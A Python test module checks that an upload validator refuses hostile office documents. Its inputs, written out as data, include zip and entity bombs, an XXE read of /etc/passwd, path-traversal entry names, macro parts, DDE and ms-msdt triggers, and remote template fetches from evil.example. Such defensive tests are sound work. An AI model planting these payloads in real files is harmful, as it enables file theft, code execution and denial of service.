"""Word, Excel and OpenDocument files: bombs, two kinds at once, macros, what is inside, what is fetched."""

import tracemalloc
import zipfile

import pytest

from core.files.uploads import ACCEPTED, UploadError
from core.files.uploads.archives import MOST_UNPACKED, entries_of, unpack
from tests.core.files import hostile_files as files
from tests.core.files.test_uploads import BESIDES, DAMAGED, NOT_WHAT_IT_SAYS, PDF, check, refusal

pytestmark = pytest.mark.unit

MACROS = "This file holds macros. Save it without them, and choose it again."
INSIDE = "This file holds other files inside it. Take them out, or save it as PDF, and choose it again."
LOCKED = "This file is protected by a password. Save it without one, and choose it again."
FETCHES = (
    "This file fetches something from elsewhere when it is opened, such as a linked picture or a template. "
    "Save it as PDF, and choose it again."
)
TOO_LARGE = "This file becomes too large when it is opened. Save it as PDF, or in parts, and choose it again."
WORD_TYPE = f"{ACCEPTED['.docx']}.main+xml"
EXCEL_TYPE = f"{ACCEPTED['.xlsx']}.main+xml"
ENTITIES = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><w>&b;</w>'
OUTSIDE = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]><w>&a;</w>'
ODF = "urn:oasis:names:tc:opendocument:xmlns"


def odf(body: str) -> bytes:
    spaces = f'xmlns:x="http://www.w3.org/1999/xlink" xmlns:t="{ODF}:text:1.0" xmlns:d="{ODF}:drawing:1.0"'
    spaces += f' xmlns:s="{ODF}:script:1.0" xmlns:o="{ODF}:office:1.0" xmlns:m="{ODF}:meta:1.0"'
    return files.open_document(more={"content.xml": f"<o:document {spaces}>{body}</o:document>"})


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (files.office(more={"word/media/a.bin": bytes(MOST_UNPACKED)}), TOO_LARGE),
        (files.office(more={f"word/media/{n}.bin": bytes(MOST_UNPACKED // 8) for n in range(9)}), TOO_LARGE),
        (files.boasting_container(), TOO_LARGE),
        (files.lying_container(), TOO_LARGE),
        (files.crowded_container(), TOO_LARGE),
        (files.overlapping_container(), BESIDES),
        (files.office(more={"word/media/a.bin": files.container({"b.bin": bytes(10_000)})}), INSIDE),
        (files.container({files.CONTENT_TYPES: bytes(1024 * 1024)}), DAMAGED),
        (files.office(more={"word/document.xml": ENTITIES}), BESIDES),
    ],
)
def test_a_bomb_stays_out(content: bytes, told: str) -> None:
    assert refusal("law.docx", content) == told


def test_as_many_entries_as_may_be_come_in() -> None:
    assert check("law.docx", files.crowded_container(1_998)) == ACCEPTED[".docx"]


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (files.office() + files.HTML, BESIDES),
        (files.office()[:-2] + b"\x09\x00" + b"remarks!!", BESIDES),
        (b"GIF89a" + files.office(), NOT_WHAT_IT_SAYS),
        (files.office(more={"mimetype": ACCEPTED[".odt"]}), BESIDES),
        (files.office(more={"META-INF/MANIFEST.MF": "Main-Class: Run"}), INSIDE),
        (files.office(more={"word/media/page.html": files.HTML}), INSIDE),
        (files.office(more={"word/media/a.png": PDF}), INSIDE),
        (files.office(more={"word/media/a.png": b"MZ\x90\x00"}), INSIDE),
        (files.twice_named_container(), BESIDES),
        (files.container({files.CONTENT_TYPES: files.types(WORD_TYPE, EXCEL_TYPE), "w.xml": "<w/>"}), BESIDES),
        (files.patched(files.office(), b"word/document.xml", 0, "<B", ord("x")), DAMAGED),
        (files.office()[:-30], DAMAGED),
        (files.office(packing=zipfile.ZIP_STORED).replace(b"<w/>", b"<v/>"), DAMAGED),
        (files.office(more={"word/a.xml": "<w>"}), DAMAGED),
        (files.office(more={"../../etc/cron.d/run.xml": "<w/>"}), DAMAGED),
        (files.office(more={"C:/run.xml": "<w/>"}), DAMAGED),
        (files.office(more={"word/document.xml": OUTSIDE}), BESIDES),
        (files.office(more={"word/document.xml": OUTSIDE.encode("utf-16")}), BESIDES),
    ],
)
def test_a_document_that_is_something_else_besides_stays_out(content: bytes, told: str) -> None:
    assert refusal("law.docx", content) == told


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("law.docx", files.office(more={"word/vbaProject.bin": b"x"})),
        ("law.docx", files.office(more={"word/activeX/activeX1.xml": "<x/>"})),
        ("law.xlsx", files.office(".xlsx", more={"xl/VBAPROJECT.BIN": b"x"})),
        ("law.xlsx", files.office(".xlsx", more={"xl/macrosheets/sheet1.xml": "<x/>"})),
        ("law.docx", files.office(main="application/vnd.ms-word.document.macroEnabled.main+xml")),
        ("law.odt", files.open_document(more={"Basic/Standard/Module1.xml": "x"})),
        ("law.odt", files.open_document(more={"Scripts/python/run.txt": "x"})),
        ("law.odt", odf('<s:event-listener s:event-name="dom:load"/>')),
    ],
)
def test_macros_stay_out(name: str, content: bytes) -> None:
    assert refusal(name, content) == MACROS


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("law.docx", files.office(more={"word/embeddings/oleObject1.bin": files.OLE})),
        ("law.docx", files.office(more={"word/embeddings/list.xlsx": "x"})),
        ("law.docx", files.office(more={"word/object.bin": files.OLE + bytes(9)})),
        ("law.odt", files.open_document(more={"Object 1": files.OLE})),
    ],
)
def test_files_inside_stay_out(name: str, content: bytes) -> None:
    assert refusal(name, content) == INSIDE


@pytest.mark.parametrize(
    "more",
    [
        files.relation("http://evil.example/letter.dotm", "attachedTemplate"),
        files.relation("file:///\\\\evil.example\\share\\letter.dotm", "attachedTemplate"),
        files.relation("http://evil.example/pixel.png", "image"),
        files.relation("http://evil.example/x", "oleObject"),
        files.relation("http://evil.example/x", "frame"),
        files.relation("http://evil.example/x", "image", ' TargetMode="&#69;xternal"'),
        files.relation("http://evil.example/x", "image", ""),
        files.relation("\\\\evil.example\\share\\x.png", "image", ""),
        files.relation("javascript:alert(1)"),
        files.relation("file:///c:/windows/system32/calc.exe"),
        files.relation("\\\\evil.example\\share"),
        files.relation("//evil.example/share"),
        files.relation("ms-msdt:/id PCWDiagnostic"),
        {"word/document.xml": "<d><instrText>DDE</instrText><instrText>AUTO c:\\cmd</instrText></d>"},
        {"word/document.xml": "<w:d xmlns:w='w'><w:fldSimple w:instr='INCLUDEPICTURE \"http://evil.example/x\"'/></w:d>"},
    ],
)  # fmt: skip
def test_what_is_fetched_or_started_when_word_opens_it_stays_out(more: files.Entries) -> None:
    assert refusal("law.docx", files.office(more=more)) == FETCHES


@pytest.mark.parametrize("target", ["https://law.example/1", "mailto:a@law.example", "#part", "HTTP://law.example"])
def test_links_that_a_person_clicks_come_in(target: str) -> None:
    assert check("law.docx", files.office(more=files.relation(target))) == ACCEPTED[".docx"]


@pytest.mark.parametrize(
    "body",
    [
        '<d:image x:href="http://evil.example/pixel.png"/>',
        '<d:object x:href="//evil.example/x"/>',
        '<t:section-source x:href="file:///etc/passwd"/>',
        '<t:a x:href="javascript:alert(1)"/>',
        '<t:a x:href="vnd.sun.star.script:x?language=Basic"/>',
    ],
)
def test_what_is_fetched_or_started_when_an_open_document_is_opened_stays_out(body: str) -> None:
    assert refusal("law.odt", odf(body)) == FETCHES


def test_links_and_pictures_of_an_open_document_come_in() -> None:
    body = '<t:a x:href="https://law.example"/><d:image x:href="Pictures/1.png"/><m:template x:href="file:///a.ott"/>'
    assert check("law.odt", odf(body)) == ACCEPTED[".odt"]


def test_documents_with_a_password_stay_out() -> None:
    """Word keeps such a document in another kind of container; OpenDocument says in its list what is locked."""
    assert refusal("law.docx", files.OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le")) == LOCKED
    manifest = f'<m xmlns:f="{ODF}:manifest:1.0"><f:encryption-data/></m>'
    locked = files.open_document(more={"content.xml": "no xml", "META-INF/manifest.xml": manifest})
    assert refusal("law.odt", locked) == LOCKED
    flagged = files.patched(files.office(), b"PK\x03\x04", 6, "<H", 1)
    assert refusal("law.docx", flagged) == LOCKED


def test_an_entry_is_never_unpacked_beyond_what_it_says() -> None:
    """It says ten bytes and holds ten million: the eleventh is one too many, and no more are in memory."""
    content = files.lying_container()
    entry = next(each for each in entries_of(content) if each.name.endswith("a.bin"))
    tracemalloc.start()
    with pytest.raises(UploadError, match="becomes too large"):
        unpack(content, entry)
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert entry.size == 10
    assert most < 1_000_000
